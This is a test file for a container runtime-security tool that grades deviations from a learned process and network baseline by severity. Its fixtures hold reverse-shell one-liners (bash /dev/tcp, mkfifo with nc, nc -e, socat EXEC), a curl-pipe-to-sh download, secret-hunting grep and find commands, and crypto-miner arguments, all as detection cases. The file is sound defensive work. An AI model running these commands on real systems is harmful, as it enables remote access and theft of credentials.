import { readFileSync } from 'node:fs';
import test from 'ava';
import { parse as parseYaml } from 'yaml';
import { baselineKey, createBaselineEngine, type DeviationReason } from '../../core/baseline.js';
import { entryFromId, entryId, entryOf, type Entry, type NetworkEntry, type ProcessEntry } from '../../core/entry.js';
import type { ActivityEvent, EventKind } from '../../core/event.js';
import { parseCidr } from '../../core/ip.js';
import {
  DEFAULT_SEVERITY_RULES,
  NO_FACTS,
  SeverityConfigError,
  UNMATCHED,
  baselineFactsOf,
  classify,
  globMatch,
  parentClass,
  parseSeverityRules,
  peerClass,
  type BaselineFacts,
  type Severity,
  type SeverityInput,
} from '../../core/severity.js';

const NO_SHELL: BaselineFacts = { hasShell: false, hasRoot: true };
const WITH_SHELL: BaselineFacts = { hasShell: true, hasRoot: true, shellParents: new Set(['sh', 'containerd-shim']) };
const NEVER_ROOT: BaselineFacts = { hasShell: true, hasRoot: false, shellParents: new Set(['sh']) };

interface P {
  exe: string;
  applet?: string;
  parent?: string;
  user?: ProcessEntry['user'];
  args?: string;
  reason?: DeviationReason;
  baseline?: BaselineFacts;
  rawExe?: string;
}

/** An exec deviation; by default a new executable under a shell in an image that runs shells as root. */
function proc(p: P): SeverityInput {
  const entry: ProcessEntry = { type: 'process', exe: p.exe, parent: p.parent ?? 'sh', user: p.user ?? 'root', args: p.args ?? '' };
  if (p.applet !== undefined) entry.applet = p.applet;
  return { kind: 'exec', reason: p.reason ?? 'new-executable', entry, exe: p.rawExe, baseline: p.baseline ?? WITH_SHELL };
}

function net(direction: NetworkEntry['direction'], peer: string, port: number, reason: DeviationReason = 'new-peer'): SeverityInput {
  const kind: EventKind = direction === 'egress' ? 'connect' : direction === 'ingress' ? 'accept' : 'listen';
  return { kind, reason, entry: { type: 'network', direction, protocol: 'tcp', peer, port }, baseline: NO_FACTS };
}

// The default table, rule by rule: [what, input, expected severity, expected rule]. Every rule has
// an event that hits it and, right after, a near miss that must not.
const cases: [string, SeverityInput, Severity, string][] = [
  ['drift: a binary written after start, whatever it is', proc({ exe: '/usr/local/bin/helper', reason: 'drift' }), 'critical', 'drift'],
  ['near miss: the same binary as a plain new executable', proc({ exe: '/usr/local/bin/helper' }), 'medium', 'new-process'],
  ['bash /dev/tcp reverse shell', proc({ exe: '/bin/bash', args: '-c bash -i >& /dev/tcp/<ip>/<n> 0>&1' }), 'critical', 'reverse-shell'],
  ['python socket one-liner (normalized: the key before = is kept)', proc({ exe: '/usr/bin/python3', args: '-c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)' }), 'critical', 'reverse-shell'],
  ['ruby -rsocket', proc({ exe: '/usr/bin/ruby', args: '-rsocket -e <rand>' }), 'critical', 'reverse-shell'],
  ['mkfifo piped to nc', proc({ exe: '/bin/sh', args: '-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc <ip> <n> >/tmp/f' }), 'critical', 'reverse-shell'],
  ['near miss: a shell reading /dev/null', proc({ exe: '/bin/sh', args: '-c cat /dev/null' }), 'medium', 'new-process'],
  ['nc -e /bin/sh', proc({ exe: '/usr/bin/nc', args: '-lvp <num> -e /bin/sh' }), 'critical', 'netcat-exec'],
  ['busybox nc -e (applet)', proc({ exe: '/bin/busybox', applet: 'nc', args: '<ip> <num> -e /bin/sh' }), 'critical', 'netcat-exec'],
  ['ncat --sh-exec', proc({ exe: '/usr/bin/ncat', args: '--sh-exec cat <ip> <num>' }), 'critical', 'netcat-exec'],
  ['socat EXEC:', proc({ exe: '/usr/bin/socat', args: 'TCP:<ip>:<n> EXEC:/bin/sh' }), 'critical', 'netcat-exec'],
  ['near miss: nc -z port probe is a network tool', proc({ exe: '/usr/bin/nc', args: '-z -v db <num>' }), 'high', 'network-tool'],
  ['xmrig', proc({ exe: '/opt/xmrig', args: '-o pool:<n>' }), 'critical', 'crypto-miner'],
  ['near miss: xmrig-proxy-config is not a miner name', proc({ exe: '/opt/xmrig-config' }), 'medium', 'new-process'],
  ['stratum URL', proc({ exe: '/usr/local/bin/svc', args: '-o stratum+tcp://pool.example:<n>' }), 'critical', 'stratum-miner'],
  ['near miss: a tcp URL', proc({ exe: '/usr/local/bin/svc', args: '-o tcp://pool.example:<n>' }), 'medium', 'new-process'],
  ['nginx → sh, sh elsewhere in the image', proc({ exe: '/bin/sh', parent: 'nginx', args: '-c id', reason: 'new-parent' }), 'critical', 'shell-from-service'],
  ['java → bash -c', proc({ exe: '/bin/bash', parent: 'java', args: '-c <...>', reason: 'new-parent' }), 'critical', 'shell-from-service'],
  ['postgres → sh (COPY ... PROGRAM)', proc({ exe: '/bin/sh', parent: 'postgres', args: '-c id', reason: 'new-parent', user: 'system' }), 'critical', 'shell-from-service'],
  ['gunicorn → sh', proc({ exe: '/bin/sh', parent: 'gunicorn', args: '-c id', reason: 'new-parent', user: 'user' }), 'critical', 'shell-from-service'],
  ['python3 → busybox sh (applet)', proc({ exe: '/bin/busybox', applet: 'sh', parent: 'python3', args: '-c id', reason: 'new-executable' }), 'critical', 'shell-from-service'],
  ['near miss: a shell under a shell (entrypoint script)', proc({ exe: '/bin/sh', parent: 'sh', args: '/docker-entrypoint.d/<n>-tune.sh', reason: 'new-arguments' }), 'medium', 'new-process'],
  ['near miss: a shell under the runtime (kubectl exec)', proc({ exe: '/bin/sh', parent: 'runc:[2:INIT]', reason: 'new-parent' }), 'high', 'shell-new-parent'],
  ['near miss: a service that started a shell while learned', proc({ exe: '/bin/bash', parent: 'java', args: '-c <...>', reason: 'new-executable', baseline: { hasShell: true, hasRoot: true, shellParents: new Set(['java']) } }), 'medium', 'new-process'],
  ['near miss: python re-executing python', proc({ exe: '/usr/bin/python3.12', parent: 'python3', reason: 'new-parent' }), 'high', 'shell-new-parent'],
  ['a shell where the image runs none (kubectl exec)', proc({ exe: '/bin/sh', parent: '', baseline: NO_SHELL }), 'critical', 'shell-where-none'],
  ['python3.11 where the image runs none', proc({ exe: '/usr/local/bin/python3.11', parent: 'containerd-shim', user: 'user', baseline: NO_SHELL }), 'critical', 'shell-where-none'],
  ['near miss: curl where the image runs no shell', proc({ exe: '/usr/bin/curl', parent: '', baseline: NO_SHELL }), 'high', 'network-tool'],
  ['a deleted binary', proc({ exe: '/usr/lib/x (deleted)' }), 'critical', 'deleted-binary'],
  ['deleted only in the raw exe', proc({ exe: '/usr/lib/x', rawExe: '/usr/lib/x (deleted)' }), 'critical', 'deleted-binary'],
  ['a memfd binary', proc({ exe: 'memfd:payload' }), 'critical', 'deleted-binary'],
  ['a deleted curl', proc({ exe: '/usr/bin/curl (deleted)' }), 'critical', 'deleted-binary'],
  ["near miss: runc's own cloned binary", proc({ exe: 'memfd:runc_cloned:/proc/self/exe' }), 'medium', 'new-process'],
  ['a binary in /tmp', proc({ exe: '/tmp/<rand>' }), 'critical', 'writable-dir-binary'],
  ['a binary in /dev/shm', proc({ exe: '/dev/shm/x' }), 'critical', 'writable-dir-binary'],
  ['a binary in /var/tmp', proc({ exe: '/var/tmp/kworker' }), 'critical', 'writable-dir-binary'],
  ['near miss: /tmpfoo is not /tmp', proc({ exe: '/tmpfoo/bin' }), 'medium', 'new-process'],
  ['a shell under a new shell parent', proc({ exe: '/usr/bin/dash', parent: 'bash', reason: 'new-parent' }), 'high', 'shell-new-parent'],
  ['near miss: same shell, same parent, new arguments', proc({ exe: '/usr/bin/dash', parent: 'sh', reason: 'new-arguments' }), 'medium', 'new-process'],
  ['sh running a script from /dev/shm', proc({ exe: '/bin/sh', args: '/dev/shm/<rand>', reason: 'new-arguments' }), 'high', 'writable-dir-script'],
  ['sh -c /tmp/x', proc({ exe: '/bin/sh', args: '-c /tmp/x', reason: 'new-arguments' }), 'high', 'writable-dir-script'],
  ['near miss: sh with a /tmp path later in its arguments', proc({ exe: '/bin/sh', args: '-c rm -rf /tmp/cache', reason: 'new-arguments' }), 'medium', 'new-process'],
  ['apt-get', proc({ exe: '/usr/bin/apt-get', args: 'install -y nmap' }), 'high', 'package-manager'],
  ['pip3.12', proc({ exe: '/usr/local/bin/pip3.12' }), 'high', 'package-manager'],
  ['apk (busybox-free alpine tool)', proc({ exe: '/sbin/apk' }), 'high', 'package-manager'],
  ['near miss: apk-tools-helper', proc({ exe: '/usr/bin/apkhelper' }), 'medium', 'new-process'],
  ['curl', proc({ exe: '/usr/bin/curl' }), 'high', 'network-tool'],
  ['wget', proc({ exe: '/usr/bin/wget' }), 'high', 'network-tool'],
  ['busybox wget (applet)', proc({ exe: '/bin/busybox', applet: 'wget', args: '-q -O- http://<ip>/x.sh' }), 'high', 'network-tool'],
  ['busybox nc (applet)', proc({ exe: '/bin/busybox', applet: 'nc', args: 'db <num>' }), 'high', 'network-tool'],
  ['wget through its busybox symlink (no applet, the path names it)', proc({ exe: '/usr/bin/wget', rawExe: '/usr/bin/wget' }), 'high', 'network-tool'],
  ['toybox nc', proc({ exe: '/system/bin/toybox', applet: 'nc' }), 'high', 'network-tool'],
  ['nc.openbsd', proc({ exe: '/bin/nc.openbsd' }), 'high', 'network-tool'],
  ['tcpdump', proc({ exe: '/usr/bin/tcpdump' }), 'high', 'network-tool'],
  ['scp', proc({ exe: '/usr/bin/scp' }), 'high', 'network-tool'],
  ['near miss: busybox ls (applet)', proc({ exe: '/bin/busybox', applet: 'ls' }), 'medium', 'new-process'],
  ['kubectl', proc({ exe: '/usr/local/bin/kubectl', args: 'get secrets -A' }), 'high', 'cluster-client'],
  ['near miss: kubectl-like name', proc({ exe: '/usr/local/bin/kubectx' }), 'medium', 'new-process'],
  ['grep for private keys', proc({ exe: '/bin/grep', args: '-r BEGIN RSA PRIVATE /' }), 'high', 'secret-search'],
  ['find id_ed25519 (normalized)', proc({ exe: '/usr/bin/find', args: '/ -name id_ed<n>' }), 'high', 'secret-search'],
  ['busybox grep for aws keys', proc({ exe: '/bin/busybox', applet: 'grep', args: '-ri aws_secret_access_key /home' }), 'high', 'secret-search'],
  ['near miss: grep for an error', proc({ exe: '/bin/grep', args: '-r ERROR /var/log' }), 'medium', 'new-process'],
  ['postgres → ls', proc({ exe: '/usr/bin/ls', parent: 'postgres' }), 'high', 'database-child'],
  ['near miss: postgres → postgres', proc({ exe: '/usr/lib/postgresql/<n>/bin/postgres', parent: 'postgres' }), 'medium', 'new-process'],
  ['near miss: a program postgres started before, new arguments', proc({ exe: '/usr/bin/ls', parent: 'postgres', reason: 'new-arguments' }), 'medium', 'new-process'],
  ['nginx → id', proc({ exe: '/usr/bin/id', parent: 'nginx' }), 'high', 'service-recon'],
  ['near miss: id under a shell', proc({ exe: '/usr/bin/id', parent: 'sh' }), 'medium', 'new-process'],
  ['a new listening port', net('listen', 'any', 4444, 'new-listen-port'), 'high', 'new-listen-port'],
  ['egress to link-local (metadata service)', net('egress', 'link-local', 80), 'high', 'link-local-egress'],
  ['near miss: ingress from link-local', net('ingress', 'link-local', 80), 'medium', 'other-network'],
  ['egress to a public address', net('egress', '203.0.113.50', 80), 'high', 'public-egress'],
  ['egress to a public IPv6 address', net('egress', '2001:db8::1', 443), 'high', 'public-egress'],
  ['egress to a resolved name', net('egress', 'evil.example.com', 443), 'high', 'public-egress'],
  ['egress to a known cluster peer on a new port', net('egress', 'cluster', 6379, 'new-port'), 'high', 'unknown-port-egress'],
  ['root where the baseline never ran as root', proc({ exe: '/usr/local/bin/app', reason: 'new-user', baseline: NEVER_ROOT }), 'high', 'root-where-none'],
  ['near miss: root where the baseline did', proc({ exe: '/usr/local/bin/app', reason: 'new-user' }), 'medium', 'new-process'],
  ['near miss: non-root where the baseline never ran as root', proc({ exe: '/usr/local/bin/app', user: 'user', baseline: NEVER_ROOT }), 'medium', 'new-process'],
  ['another new process', proc({ exe: '/usr/bin/find', user: 'user' }), 'medium', 'new-process'],
  ['a new in-cluster peer (egress)', net('egress', 'cluster', 5432), 'low', 'new-cluster-peer'],
  ['a new in-cluster peer (ingress)', net('ingress', 'cluster', 80), 'low', 'new-cluster-peer'],
  ['ingress from a public address', net('ingress', '198.51.100.7', 80), 'medium', 'other-network'],
  ['egress to loopback', net('egress', 'loopback', 9000), 'medium', 'other-network'],
];

for (const [what, input, severity, ruleId] of cases) {
  test(`default table: ${what} → ${severity} (${ruleId})`, (t) => {
    const got = classify(input);
    t.is(got.ruleId, ruleId);
    t.is(got.severity, severity);
    t.is(got.reason, DEFAULT_SEVERITY_RULES.find((r) => r.id === ruleId)!.reason);
  });
}

test('every default rule is reachable by some case above, and each has a near miss', (t) => {
  const hit = new Set(cases.map((c) => c[3]));
  t.deepEqual(DEFAULT_SEVERITY_RULES.map((r) => r.id).filter((id) => !hit.has(id)), []);
  t.true(cases.filter((c) => c[0].startsWith('near miss')).length >= 20);
});

test('the README table lists every default rule with its severity', (t) => {
  const readme = readFileSync(new URL('../../../README.md', import.meta.url), 'utf8');
  for (const r of DEFAULT_SEVERITY_RULES) t.regex(readme, new RegExp(`\\| \`${r.id}\` \\| ${r.severity} \\|`), r.id);
});

test('first match wins, and an empty table gives UNMATCHED', (t) => {
  const rules = [
    { id: 'a', severity: 'low' as const, reason: 'first', match: { kind: ['exec' as const] } },
    { id: 'b', severity: 'critical' as const, reason: 'second', match: { kind: ['exec' as const] } },
  ];
  t.deepEqual(classify(proc({ exe: '/bin/x' }), rules), { severity: 'low', ruleId: 'a', reason: 'first' });
  t.deepEqual(classify(proc({ exe: '/bin/x' }), []), UNMATCHED);
});

test('network conditions never match process entries and vice versa', (t) => {
  t.is(classify(proc({ exe: '/bin/x' }), [{ id: 'n', severity: 'low', reason: 'r', match: { peer: ['public'] } }]).ruleId, 'unmatched');
  for (const match of [{ user: ['root' as const] }, { exe: ['*'] }, { args: ['*'] }, { parent: ['other' as const] }, { parentStartedShell: false }]) {
    t.is(classify(net('egress', '203.0.113.1', 1), [{ id: 'p', severity: 'low', reason: 'r', match }]).ruleId, 'unmatched', JSON.stringify(match));
  }
});

test('baselineFactsOf reads shells (by program, applets included), root, and the parents that start shells', (t) => {
  const p = (exe: string, parent: string, user: ProcessEntry['user'], applet?: string): Entry => ({ type: 'process', exe, ...(applet && { applet }), parent, user, args: '' });
  const facts = (entries: Entry[]) => {
    const f = baselineFactsOf(entries);
    return { hasShell: f.hasShell, hasRoot: f.hasRoot, shellParents: [...(f.shellParents ?? [])].sort() };
  };
  t.deepEqual(facts([p('/usr/sbin/nginx', 'containerd-shim', 'root'), { type: 'network', direction: 'listen', protocol: 'tcp', peer: 'any', port: 80 }]), { hasShell: false, hasRoot: true, shellParents: [] });
  t.deepEqual(facts([p('/usr/sbin/nginx', 'sh', 'system'), p('/bin/sh', 'containerd-shim', 'system'), p('/bin/sh', 'sh', 'system')]), { hasShell: true, hasRoot: false, shellParents: ['containerd-shim'] }, 'sh → sh is a shell re-executing itself');
  t.deepEqual(facts([p('/usr/bin/python3.12', 'python3', 'user')]), { hasShell: true, hasRoot: false, shellParents: [] }, 'python re-executing python says nothing about its parent');
  t.deepEqual(facts([p('/bin/busybox', 'containerd-shim', 'root', 'sh'), p('/bin/busybox', 'nginx', 'root', 'wget')]), { hasShell: true, hasRoot: true, shellParents: ['containerd-shim'] }, 'busybox wget is not a shell');
  t.deepEqual(facts([]), { hasShell: false, hasRoot: false, shellParents: [] });
});

test('parent classes', (t) => {
  const e = (parent: string, exe = '/bin/sh'): ProcessEntry => ({ type: 'process', exe, parent, user: 'root', args: '' });
  t.is(parentClass(e('bash')), 'shell');
  t.is(parentClass(e('busybox')), 'shell', 'a busybox parent whose applet is unknown is taken for a shell');
  t.is(parentClass(e('')), 'launcher');
  t.is(parentClass(e('containerd-shim')), 'launcher');
  t.is(parentClass(e('runc:[2:INIT]')), 'launcher');
  t.is(parentClass(e('tini')), 'launcher');
  t.is(parentClass(e('python3', '/usr/bin/python3.11')), 'same');
  t.is(parentClass(e('nginx', '/usr/sbin/nginx')), 'same');
  t.is(parentClass(e('nginx')), 'other');
  t.is(parentClass(e('java')), 'other');
});

test('peer classes', (t) => {
  t.is(peerClass('cluster'), 'cluster');
  t.is(peerClass('loopback'), 'loopback');
  t.is(peerClass('invalid'), 'unknown');
  t.is(peerClass(''), 'unknown');
  t.is(peerClass('8.8.8.8'), 'public');
  t.is(peerClass('api.github.com'), 'public');
  t.is(peerClass('127.0.0.1'), 'loopback');
});

test('globs: *, ?, classes, and no blow-up on hostile input', (t) => {
  t.true(globMatch('python3*', 'python3.11'));
  t.true(globMatch('python3*', 'python3'));
  t.false(globMatch('python3*', 'python'));
  t.true(globMatch('nc.*', 'nc.openbsd'));
  t.false(globMatch('nc.*', 'nc'));
  t.true(globMatch('ruby[0-9]*', 'ruby3.2'));
  t.false(globMatch('ruby[0-9]*', 'rubyx'));
  t.true(globMatch('[!a]b', 'xb'));
  t.false(globMatch('[!a]b', 'ab'));
  t.true(globMatch('a?c', 'abc'));
  t.true(globMatch('[unterminated', '[unterminated'));
  t.true(globMatch('/opt/*/bin/*', '/opt/app/bin/tool'));
  const start = performance.now();
  t.false(globMatch('*a*a*a*a*a*a*a*a*b', 'a'.repeat(4000)));
  t.true(performance.now() - start < 500);
});

test('a user table from YAML goes before the defaults, and can replace a default rule by id', (t) => {
  const rules = parseSeverityRules(
    parseYaml(`
rules:
  - id: crypto-miner
    severity: critical
    reason: a known crypto miner ran
    match: { kind: [exec], exe: [xmrig, "*/minerd"] }
  - id: new-cluster-peer
    severity: medium
    reason: cluster peers matter here
    match: { peer: [cluster] }
`),
  );
  t.is(rules[0]!.id, 'crypto-miner');
  t.is(classify(proc({ exe: '/opt/xmrig' })).ruleId, 'crypto-miner');
  t.is(classify(proc({ exe: '/opt/xmrig' }), rules).severity, 'critical');
  t.is(classify(proc({ exe: '/usr/local/bin/minerd' }), rules).ruleId, 'crypto-miner');
  t.is(classify(net('egress', 'cluster', 5432), rules).severity, 'medium');
  t.is(rules.filter((r) => r.id === 'new-cluster-peer').length, 1);
  t.true(Object.isFrozen(rules) && Object.isFrozen(rules[0]!.match));
  t.is(parseSeverityRules({ rules: [], defaults: false }).length, 0);
  t.is(parseSeverityRules(undefined).length, DEFAULT_SEVERITY_RULES.length);
});

const badTables: [string, unknown, string][] = [
  ['unknown severity', { rules: [{ id: 'x', severity: 'urgent', reason: 'r' }] }, 'rules.0.severity'],
  ['bad id', { rules: [{ id: 'Bad Id', severity: 'low', reason: 'r' }] }, 'rules.0.id'],
  ['empty reason', { rules: [{ id: 'x', severity: 'low', reason: '  ' }] }, 'rules.0.reason'],
  ['unknown match key', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { image: ['nginx'] } }] }, 'rules.0.match.image'],
  ['bad kind', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { kind: ['dns'] } }] }, 'rules.0.match.kind.0'],
  ['bad peer class', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { peer: ['internet'] } }] }, 'rules.0.match.peer.0'],
  ['relative path prefix', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { pathPrefix: ['tmp/'] } }] }, 'rules.0.match.pathPrefix.0'],
  ['empty exe list', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { exe: [] } }] }, 'rules.0.match.exe'],
  ['overlong glob', { rules: [{ id: 'x', severity: 'low', reason: 'r', match: { exe: ['a'.repeat(300)] } }] }, 'rules.0.match.exe.0'],
  ['duplicate id', { rules: [{ id: 'x', severity: 'low', reason: 'r' }, { id: 'x', severity: 'high', reason: 'r' }] }, 'rules.1.id'],
  ['unknown top-level key', { rule: [] }, 'rule'],
];

for (const [what, doc, field] of badTables) {
  test(`a bad user table names the field: ${what}`, (t) => {
    const err = t.throws(() => parseSeverityRules(doc), { instanceOf: SeverityConfigError });
    t.is(err?.field, field);
    t.is(err?.code, 'invalid_severity_rules');
    t.true(err!.message.startsWith(`${field}: `), err!.message);
  });
}

test('a bad severity names the allowed values', (t) => {
  const err = t.throws(() => parseSeverityRules({ rules: [{ id: 'x', severity: 'urgent', reason: 'r' }] }));
  t.regex(err!.message, /critical, high, medium, low/);
});

test('a user table can use the argument, parent and parent-started-shell conditions', (t) => {
  const rules = parseSeverityRules(
    parseYaml(`
rules:
  - id: redis-module-load
    severity: critical
    reason: redis loaded a module from a writable place
    match: { kind: [exec], exe: [redis-server], args: ["*--loadmodule /tmp/*"] }
  - id: php-child
    severity: high
    reason: php-fpm started something new
    match: { parent: [other], parentName: ["php-fpm*"], parentStartedShell: true }
`),
  );
  t.is(classify(proc({ exe: '/usr/local/bin/redis-server', args: '--port <num> --loadmodule /tmp/x.so' }), rules).ruleId, 'redis-module-load');
  t.is(classify(proc({ exe: '/usr/local/bin/redis-server', args: '--port <num>' }), rules).ruleId, 'new-process');
  const phpFacts: BaselineFacts = { hasShell: true, hasRoot: true, shellParents: new Set(['php-fpm8.2']) };
  t.is(classify(proc({ exe: '/usr/bin/convert', parent: 'php-fpm8.2', baseline: phpFacts }), rules).ruleId, 'php-child');
  t.is(classify(proc({ exe: '/usr/bin/convert', parent: 'php-fpm8.2' }), rules).ruleId, 'new-process');
  const err = t.throws(() => parseSeverityRules({ rules: [{ id: 'x', severity: 'low', reason: 'r', match: { parent: ['daemon'] } }] }), { instanceOf: SeverityConfigError });
  t.is(err?.field, 'rules.0.match.parent.0');
  t.regex(err!.message, /shell, launcher, same, other/);
});

// ---------------------------------------------------------------------------------------------
// From events to a verdict: learn an image, enforce, attack; the facts come from the learned baseline.

const T0 = Date.UTC(2026, 10, 23, 8, 0, 0);
const MIN = 60_000;
const entryOptions = { clusterRanges: ['10.0.0.0/8'].map(parseCidr) };

interface Exec {
  exe: string;
  name?: string;
  args?: string[];
  parentExe?: string;
  parentName?: string;
  uid?: number;
}

function execEvent(minute: number, image: string, p: Exec): ActivityEvent {
  return {
    time: T0 + minute * MIN,
    node: 'node-1',
    source: 'test',
    container: { id: 'c1', name: 'app', image: { repository: image, tag: '1', digest: '' } },
    pod: { namespace: 'shop', name: 'app-1', labels: {}, workload: '' },
    kind: 'exec',
    process: {
      pid: 100 + minute,
      exe: p.exe,
      name: p.name ?? p.exe.slice(p.exe.lastIndexOf('/') + 1),
      args: p.args ?? [],
      parentExe: p.parentExe ?? '',
      parentName: p.parentName ?? 'containerd-shim',
      uid: p.uid ?? 0,
      user: '',
    },
    network: null,
  };
}

/** Learn `learned` for an hour, then classify `attack` against the enforcing baseline. */
function verdict(image: string, learned: Exec[], attack: Exec): { ruleId: string; severity: Severity; reason: DeviationReason } {
  const engine = createBaselineEngine({ learningWindowMs: 60 * MIN, quietPeriodMs: 0 });
  const observe = (ev: ActivityEvent) => {
    const entry = entryOf(ev, entryOptions)!;
    return { entry, obs: engine.observe(ev, baselineKey(ev, engine.options.keyMode)!, entry, entryId(entry)) };
  };
  learned.forEach((p, i) => observe(execEvent(i, image, p)));
  observe(execEvent(61, image, learned[0]!));
  const ev = execEvent(62, image, attack);
  const { entry, obs } = observe(ev);
  if (obs.verdict !== 'deviation') throw new Error(`expected a deviation, got ${obs.verdict}`);
  const facts = baselineFactsOf([...obs.baseline.entries.keys()].map(entryFromId));
  const c = classify({ kind: 'exec', reason: obs.reason, entry, exe: ev.process.exe, baseline: facts });
  return { ruleId: c.ruleId, severity: c.severity, reason: obs.reason };
}

// nginx's own entrypoint: the runtime starts /docker-entrypoint.sh under /bin/sh, which runs its
// scripts with sh and finally execs nginx (docker-library/nginx docker-entrypoint.sh).
const NGINX_DEBIAN: Exec[] = [
  { exe: '/usr/sbin/nginx', args: ['-g', 'daemon off;'], parentExe: '/bin/sh', parentName: 'docker-entrypoi' },
  { exe: '/bin/sh', args: ['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'] },
  { exe: '/bin/sh', args: ['/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh'], parentExe: '/bin/sh', parentName: 'docker-entrypoi' },
  { exe: '/usr/bin/find', args: ['/docker-entrypoint.d/', '-mindepth', '1'], parentExe: '/bin/sh', parentName: 'docker-entrypoi' },
];

test('events: nginx → sh is critical although /bin/sh runs in the image (its entrypoint)', (t) => {
  const v = verdict('docker.io/library/nginx', NGINX_DEBIAN, { exe: '/bin/sh', args: ['-c', 'id'], parentExe: '/usr/sbin/nginx', parentName: 'nginx', uid: 101 });
  t.deepEqual(v, { ruleId: 'shell-from-service', severity: 'critical', reason: 'new-parent' });
});

test('events: a new script run by the entrypoint shell is not critical', (t) => {
  const v = verdict('docker.io/library/nginx', NGINX_DEBIAN, { exe: '/bin/sh', args: ['/docker-entrypoint.d/99-custom.sh'], parentExe: '/bin/sh', parentName: 'docker-entrypoi' });
  t.deepEqual(v, { ruleId: 'new-process', severity: 'medium', reason: 'new-arguments' });
});

test('events: java → bash -c is critical', (t) => {
  const learned: Exec[] = [{ exe: '/opt/java/openjdk/bin/java', args: ['-jar', '/app.jar'] }, { exe: '/bin/bash', args: ['/opt/entry.sh'] }];
  const v = verdict('docker.io/acme/orders', learned, { exe: '/bin/bash', args: ['-c', 'curl http://203.0.113.9/x | sh'], parentExe: '/opt/java/openjdk/bin/java', parentName: 'java' });
  t.deepEqual(v, { ruleId: 'shell-from-service', severity: 'critical', reason: 'new-parent' });
});

test('events: postgres → sh is critical; postgres running its archive command as learned is not', (t) => {
  const learned: Exec[] = [
    { exe: '/usr/lib/postgresql/16/bin/postgres', args: ['-D', '/var/lib/postgresql/data'], parentExe: '/usr/local/bin/docker-entrypoint.sh', parentName: 'docker-entrypoi', uid: 999 },
    { exe: '/bin/sh', args: ['-c', 'cp pg_wal/000000010000000000000001 /archive/'], parentExe: '/usr/lib/postgresql/16/bin/postgres', parentName: 'postgres', uid: 999 },
  ];
  const attack = verdict('docker.io/library/postgres', learned, { exe: '/bin/sh', args: ['-c', 'id > /tmp/out'], parentExe: '/usr/lib/postgresql/16/bin/postgres', parentName: 'postgres', uid: 999 });
  t.deepEqual(attack, { ruleId: 'new-process', severity: 'medium', reason: 'new-arguments' }, 'postgres starts sh by design here: the shell is not new to it');
  const fresh = verdict('docker.io/library/postgres', learned.slice(0, 1).concat({ exe: '/bin/sh', args: ['/docker-entrypoint-initdb.d/init.sh'], parentExe: '/usr/local/bin/docker-entrypoint.sh', parentName: 'docker-entrypoi', uid: 999 }), { exe: '/bin/sh', args: ['-c', 'id'], parentExe: '/usr/lib/postgresql/16/bin/postgres', parentName: 'postgres', uid: 999 });
  t.deepEqual(fresh, { ruleId: 'shell-from-service', severity: 'critical', reason: 'new-parent' });
});

test('events: a python web server → sh is critical even though python re-executes python', (t) => {
  const learned: Exec[] = [
    { exe: '/usr/local/bin/python3.12', name: 'gunicorn', args: ['/usr/local/bin/gunicorn', 'app:app'], uid: 1000 },
    { exe: '/usr/local/bin/python3.12', name: 'python3', args: ['-c', 'from multiprocessing.spawn import spawn_main'], parentExe: '/usr/local/bin/python3.12', parentName: 'gunicorn', uid: 1000 },
    { exe: '/bin/sh', args: ['/entrypoint.sh'], uid: 1000 },
  ];
  const v = verdict('docker.io/acme/web', learned, { exe: '/bin/sh', args: ['-c', 'uname -a'], parentExe: '/usr/local/bin/python3.12', parentName: 'gunicorn', uid: 1000 });
  t.is(v.ruleId, 'shell-from-service');
  t.is(v.severity, 'critical');
});

// nginx:alpine: every shell is busybox; /bin/sh is a symlink to it.
const NGINX_ALPINE: Exec[] = [
  { exe: '/usr/sbin/nginx', args: ['-g', 'daemon off;'], parentExe: '/bin/busybox', parentName: 'docker-entrypoi' },
  { exe: '/bin/busybox', name: 'sh', args: ['/docker-entrypoint.sh', 'nginx', '-g', 'daemon off;'] },
  { exe: '/bin/busybox', name: 'sh', args: ['/docker-entrypoint.d/20-envsubst-on-templates.sh'], parentExe: '/bin/busybox', parentName: 'docker-entrypoi' },
  { exe: '/bin/busybox', name: 'busybox', args: ['find', '/docker-entrypoint.d/', '-mindepth', '1'], parentExe: '/bin/busybox', parentName: 'docker-entrypoi' },
];

test('events: on alpine, busybox applets are told apart and judged by what they are', (t) => {
  const img = 'docker.io/library/nginx';
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/bin/busybox', name: 'sh', args: ['-c', 'id'], parentExe: '/usr/sbin/nginx', parentName: 'nginx' }), { ruleId: 'shell-from-service', severity: 'critical', reason: 'new-parent' });
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/bin/busybox', name: 'wget', args: ['-q', '-O-', 'http://203.0.113.9/x.sh'], parentExe: '/bin/busybox', parentName: 'sh' }), { ruleId: 'network-tool', severity: 'high', reason: 'new-executable' });
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/bin/busybox', name: 'busybox', args: ['wget', 'http://203.0.113.9/x.sh'], parentExe: '/bin/busybox', parentName: 'sh' }), { ruleId: 'network-tool', severity: 'high', reason: 'new-executable' });
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/bin/busybox', name: 'nc', args: ['203.0.113.9', '4444', '-e', '/bin/sh'], parentExe: '/bin/busybox', parentName: 'sh' }), { ruleId: 'netcat-exec', severity: 'critical', reason: 'new-executable' });
  // A source that reports the symlink instead of the resolved binary.
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/usr/bin/wget', name: 'wget', args: ['http://203.0.113.9/x.sh'], parentExe: '/bin/busybox', parentName: 'sh' }), { ruleId: 'network-tool', severity: 'high', reason: 'new-executable' });
  // The entrypoint's busybox shell running a new script stays a shell under a shell.
  t.deepEqual(verdict(img, NGINX_ALPINE, { exe: '/bin/busybox', name: 'sh', args: ['/docker-entrypoint.d/99-x.sh'], parentExe: '/bin/busybox', parentName: 'docker-entrypoi' }), { ruleId: 'new-process', severity: 'medium', reason: 'new-arguments' });
});
